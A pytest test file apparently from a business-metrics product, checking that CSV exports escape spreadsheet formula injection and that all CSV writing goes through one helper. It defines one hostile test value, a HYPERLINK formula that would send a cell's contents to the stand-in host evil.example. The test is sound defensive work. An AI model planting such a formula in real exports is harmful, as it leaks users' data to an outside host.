"""Every CSV the product writes escapes cells a spreadsheet would read as a formula."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from abm.exports import csv_text, safe_cell

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (-3.5, -3.5), (7, 7), (None, None), ("", ""),
])
def test_owasp_rule(value, shown):
    assert safe_cell(value) == shown


def test_the_kpi_export_escapes_a_costs_product(api):
    manager = api("manager")
    answer = manager.post("/api/v1/costs", json={"product": FORMULA, "channel": "ads", "amount": "120.00",
                                                 "currency": "usd", "date": "2026-06-02"})
    assert answer.status_code == 201, answer.get_json()
    exported = manager.get("/api/v1/kpis?group_by=product&from=2026-06-01&to=2026-06-30&format=csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + FORMULA in cells
    assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "@")) for cell in cells)


def test_header_and_cells_alike():
    text = csv_text([{"=name": "-1", "n": -1}])
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "n"], ["'-1", "-1"]]


def test_no_module_writes_a_csv_but_through_the_one_helper():
    """Every CSV the product writes goes through ``abm.exports`` (the seed generator's
    files, made to be imported again, excepted): a module that makes its own writer
    fails here, so a new export cannot forget the rule."""
    root = Path(__file__).resolve().parents[2]
    allowed = {Path("abm/exports.py"), Path("abm/services/seed.py")}
    writers = []
    for package in ("abm", "workers", "connectors", "playbooks"):
        for path in (root / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    writers.append(path.relative_to(root))
    assert writers and set(writers) <= allowed, sorted(set(writers) - allowed)
